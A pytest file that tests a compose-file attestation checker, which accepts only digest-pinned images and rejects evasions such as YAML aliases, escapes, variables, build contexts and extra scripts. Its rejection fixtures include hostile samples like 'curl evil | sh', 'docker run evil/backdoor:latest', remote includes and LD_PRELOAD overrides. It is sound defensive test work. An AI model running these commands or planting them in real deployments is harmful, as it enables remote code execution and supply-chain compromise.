"""What a measured compose file fixes of what runs: only what is written in it, in fields that are known."""

from __future__ import annotations

import json
import sys
from typing import Any

import pytest

from zg_core.verify.attestation.compose import Image, composition_of

DIGEST = "sha256:" + "ab" * 32
GOOD = f"vendor/good@{DIGEST}"
SERVICE = f"services:\n  a:\n    image: {GOOD}\n"


def outer(file: Any = SERVICE, **changes: Any) -> str:
    return json.dumps({"runner": "docker-compose", "docker_compose_file": file, **changes})


HONEST: dict[str, str] = {
    "the least": outer(),
    "a tag beside the digest": outer(f"services: {{a: {{image: 'reg.example:5000/v/n:1.2@{DIGEST}'}}}}"),
    "in quotes": outer(f'{{"services": {{"a": {{"image": "{GOOD}"}}}}}}'),
    "escaped": outer(f'services:\n  a:\n    "im\\x61ge": {GOOD}\n'),
    "by an alias": outer(f"x-i: &i {GOOD}\nservices:\n  a:\n    image: *i\n"),
    "by a merge": outer(f"x-c: &c {{image: {GOOD}, restart: always}}\nservices:\n  a:\n    <<: *c\n"),
    "with everything that is usual": outer(
        f"""version: "3.8"
services:
  broker:
    image: {GOOD}
    command: ["serve", "--price", "$$1"]
    environment: [TOKEN=$TOKEN, "PASSWORD=${{PASSWORD}}"]
    ports: ["${{PORT:-80}}:3080"]
    volumes: ["/var/run/dstack.sock:/var/run/dstack.sock", data:/data]
    healthcheck: {{test: [CMD, "true"], interval: 15s}}
    depends_on: {{db: {{condition: service_healthy}}}}
    deploy: {{resources: {{reservations: {{devices: [{{driver: nvidia, count: all, capabilities: [gpu]}}]}}}}}}
    runtime: nvidia
    x-note: ${{ANYTHING}}
  db: {{image: "{GOOD}", restart: always, logging: {{driver: json-file}}}}
volumes: {{data: }}
networks: {{default: {{name: n}}}}
configs: {{haproxy: {{content: "bind *:80"}}}}
x-anything: ${{GOES}}
""",
        allowed_envs=["TOKEN", "PASSWORD", "PORT"],
        manifest_version=2,
        name="n",
        kms_enabled=True,
        pre_launch_script="",
        init_script=None,
        event_log_version=2,
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_is_written_in_full_is_pinned(name: str) -> None:
    found = composition_of(HONEST[name])
    assert found.loose == ()
    assert found.pinned
    assert all(image.digest == DIGEST for image in found.images)
    assert found.images


def beside(text: str) -> str:
    return outer(f"{SERVICE}  b:\n    {text}\n")


LOOSE: dict[str, str] = {
    "a tag": beside("image: evil:latest"),
    "an escaped key": beside('"im\\x61ge": evil/backdoor:latest'),
    "an escaped image": beside('image: "evil\\x3alatest"'),
    "a block scalar": beside("image: >-\n      evil/backdoor:latest"),
    "an explicit key": beside("? image\n    : evil/backdoor:latest"),
    "a tag of YAML": beside("image: !!str evil/backdoor:latest"),
    "binary": beside("image: !!binary ZXZpbA=="),
    "an alias": outer(f"x-i: &i evil:latest\n{SERVICE}  b:\n    image: *i\n"),
    "a merge": outer(f"x-c: &c {{image: evil}}\n{SERVICE}  b:\n    <<: *c\n"),
    "an anchor on the value": beside("image: &i evil/backdoor:latest"),
    "a variable": beside("image: ${X:-evil/backdoor}"),
    "a variable for the digest": beside("image: vendor/good@${DIGEST}"),
    "a digest in a comment": beside(f"image: evil/backdoor:latest #@{DIGEST}"),
    "a digest after a sharp": beside(f"image: evil/backdoor:latest#@{DIGEST}"),
    "a digest of blanks": beside(f"image: 'evil latest@{DIGEST}'"),
    "a digest in capitals": beside(f"image: evil@{DIGEST.upper()}"),
    "half a digest": beside(f"image: evil@{DIGEST[:-1]}"),
    "two digests": beside(f"image: evil@{DIGEST}@{DIGEST}"),
    "a digest and a line": beside(f'image: "evil@{DIGEST}\\n"'),
    "another algorithm": beside("image: evil@md5:" + "ab" * 16),
    "an image that is a list": beside(f"image: [{GOOD}]"),
    "an image that is a mapping": beside(f"image: {{name: {GOOD}}}"),
    "no image": beside("image:"),
    "a service without an image": beside("command: serve"),
    "a service of nothing": outer(f"{SERVICE}  b:\n"),
    "a service that is a text": outer(f"{SERVICE}  b: evil\n"),
    "build": beside(f"image: {GOOD}\n    build: ."),
    "build alone": beside("build: {context: 'https://evil.example/x.git'}"),
    "extends of a file": beside("extends: {file: https://evil/x.yml, service: s}"),
    "extends of a service": beside(f"image: {GOOD}\n    extends: a"),
    "a provider": beside("provider: {type: evil}"),
    "models": beside(f"image: {GOOD}\n    models: [llm]"),
    "models outside": outer(f"{SERVICE}models: {{llm: {{model: ai/evil}}}}\n"),
    "develop": beside(f"image: {GOOD}\n    develop: {{watch: [{{action: rebuild, path: .}}]}}"),
    "a field nobody knows": beside(f"image: {GOOD}\n    run_this: evil"),
    "an image that is mounted": beside(f"image: {GOOD}\n    volumes: [{{type: image, source: evil, target: /bin}}]"),
    "a command from a variable": beside(f"image: {GOOD}\n    command: sh -c $CMD"),
    "an entrypoint from a variable": beside(f"image: {GOOD}\n    entrypoint: ['${{E}}']"),
    "a mount from a variable": beside(f"image: {GOOD}\n    volumes: ['${{HOME}}:/usr']"),
    "a hook from a variable": beside(f"image: {GOOD}\n    post_start: [{{command: '$X'}}]"),
    "a config from a variable": outer(f"{SERVICE}configs: {{c: {{content: '${{C}}'}}}}\n"),
    "include": outer(f"include: [oci://evil/backdoor:latest]\n{SERVICE}"),
    "a field of the file nobody knows": outer(f"{SERVICE}functions: {{}}\n"),
    "two documents": outer(f"{SERVICE}---\nservices: {{b: {{image: evil}}}}\n"),
    "the services twice": outer(f"{SERVICE}services: {{b: {{image: evil}}}}\n"),
    "a service twice": outer(f"{SERVICE}  a: {{image: evil}}\n"),
    "an image twice": outer(f"services:\n  a:\n    image: {GOOD}\n    image: evil\n"),
    "no services": outer("services: {}"),
    "services that are a list": outer(f"services: [{{image: {GOOD}}}]"),
    "no file": outer(None),
    "an empty file": outer(""),
    "a file that is a list": outer("[a]"),
    "a file as an object": outer({"services": {"a": {"image": GOOD}}}),
    "no YAML": outer("services: {"),
    "another runner": outer(runner="bash", bash_script="curl evil | sh"),
    "nerdctl": outer(runner="nerdctl-compose"),
    "no runner": json.dumps({"docker_compose_file": SERVICE}),
    "a script before": outer(pre_launch_script="docker run evil/backdoor:latest"),
    "a list of scripts before": outer(init_script=["docker run evil"]),
    "a script of its own": outer(bash_script="x"),
    "a field around it nobody knows": outer(post_launch_script="x"),
    "Compose's variables from the operator": outer(allowed_envs=["TOKEN", "COMPOSE_FILE"]),
    "Docker's variables from the operator": outer(allowed_envs=["DOCKER_HOST"]),
    "the path from the operator": outer(allowed_envs=["PATH"]),
    "the loader from the operator": outer(allowed_envs=["LD_PRELOAD"]),
    "variables in another form": outer(allowed_envs={"COMPOSE_FILE": 1}),
    "the runner twice": outer()[:-1] + ',"runner":"docker-compose"}',
    "not JSON": "services: {}",
    "a list": "[]",
    "nothing": "",
    "deep": "[" * 100_000,
    "long": outer(name="x" * 2**20),
}


@pytest.mark.parametrize("name", LOOSE)
def test_what_leaves_something_open_is_not(name: str) -> None:
    found = composition_of(LOOSE[name])
    assert not found.pinned
    assert found.loose
    assert all(0 < len(reason) < 400 for reason in found.loose)


@pytest.mark.parametrize("name", ["an alias", "a merge", "a block scalar", "an escaped image"])
def test_the_image_behind_it_is_named(name: str) -> None:
    named = {image.name for image in composition_of(LOOSE[name]).images}
    assert named & {"evil:latest", "evil", "evil/backdoor:latest"}


def test_an_image_is_named_once_and_reasons_are_few() -> None:
    services = "".join(f"  s{n}: {{image: evil{n % 50}}}\n" for n in range(100))
    found = composition_of(outer(f"services:\n{services}"))
    assert len(found.images) == 50
    assert len(found.loose) == 20


def test_without_pyyaml_nothing_is_known_until_it_is_there(monkeypatch: pytest.MonkeyPatch) -> None:
    text = outer(f"{SERVICE}# read by no other test\n")
    with monkeypatch.context() as without:
        without.setitem(sys.modules, "yaml", None)
        found = composition_of(text)
        assert not found.readable
        assert not found.pinned
        assert "pip install 'zerog-integrations[attestation]'" in found.loose[0]
    assert composition_of(text).pinned


def test_the_same_file_is_read_once_and_one_that_differs_in_a_letter_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    text = outer(f"{SERVICE}# read once\n")
    first = composition_of(text)
    monkeypatch.setitem(sys.modules, "yaml", None)
    assert composition_of(text) == first
    assert first.pinned
    assert not composition_of(text.replace("read once", "read Once")).readable


def test_a_name_fixes_the_bytes_by_its_digest_alone() -> None:
    assert Image(GOOD).digest == DIGEST
    assert Image("vendor/good:1").digest == ""
